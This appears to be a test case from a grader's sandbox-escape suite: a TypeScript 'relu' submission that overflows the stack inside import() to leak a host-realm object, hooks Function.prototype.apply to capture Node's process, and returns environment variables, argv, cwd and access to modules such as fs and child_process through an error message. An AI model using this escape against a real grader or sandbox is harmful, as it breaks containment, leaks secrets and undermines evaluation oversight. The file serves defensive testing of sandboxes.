// 80-overflow-process [escape]
// Tries: overflow inside import() until Node's own RangeError comes out; from it Node's Function.prototype.apply, which Node calls with process at an unhandled rejection; shows what process holds
// A correct grader must report: wrong or forbidden or crash. No environment, path or version of the grader is shown.
let H: any = null; let proc: any = null;
function rec(): void { try { import('x').catch(() => {}); } catch (e: any) { if (typeof e === 'object' && e && !(e instanceof Error)) H ??= e; } rec(); }
try { rec(); } catch {}
let info = 'H=' + (H !== null);
if (H) {
  const FP = Object.getPrototypeOf(Object.getPrototypeOf(H.constructor)); const apply = FP.apply;
  FP.apply = function (self: any, args: any) { if (self && typeof self.getBuiltinModule === 'function') { proc = self; FP.apply = apply; } return Reflect.apply(this, self, args ?? []); };
  Promise.reject(1);
}
export function relu(x: number[]): number[] { let s = info; if (proc) { s += ' PROCESS pid ' + typeof proc.pid + ' version ' + proc.version + ' env ' + JSON.stringify(proc.env) + ' argv ' + JSON.stringify(proc.argv) + ' execArgv ' + proc.execArgv + ' cwd '; try { s += proc.cwd(); } catch (e) { s += e; } for (const m of ['fs', 'net', 'child_process', 'worker_threads', 'vm', 'inspector', 'sqlite']) { try { s += ' ' + m + ':' + typeof proc.getBuiltinModule('node:' + m); } catch (e) { s += ' ' + m + '!' + e; } } } throw new Error(s); }
export function reluBackward(d: number[], x: number[]): number[] { throw new Error(info + (proc ? ' P' : '')); }
